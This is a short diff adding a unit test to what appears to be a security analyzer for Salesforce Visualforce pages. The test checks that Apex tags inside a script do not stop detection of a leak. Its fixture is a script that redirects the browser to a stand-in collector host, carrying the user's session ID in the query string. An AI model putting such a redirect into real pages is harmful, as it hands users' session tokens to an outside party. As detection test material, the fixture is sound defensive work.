@@ -165,6 +165,20 @@ def test_self_closing_script_and_style_are_whole_elements() -> None:
     assert len(sessions(ir)) == 2
 
 
+def test_visualforce_tags_inside_a_script_do_not_stop_its_analysis() -> None:
+    ir = lower(page(
+        "<script>\n"
+        "  var ids = [];\n"
+        '  <apex:repeat var="a" value="{!rows}">\n'
+        "    ids.push('{!a.Id}');\n"
+        "  </apex:repeat>\n"
+        "  window.location.href = 'https://collector.example.com/in?sid={!$Api.Session_ID}';\n"
+        "</script>"
+    ))
+    assert ir.notifications == ()
+    assert sink(ir, "window.location").in_query
+
+
 def test_markup_url_sinks() -> None:
     ir = lower(page(
         '<a href="https://x.example.com/?sid={!$Api.Session_ID}&amp;a=1">a</a>\n'
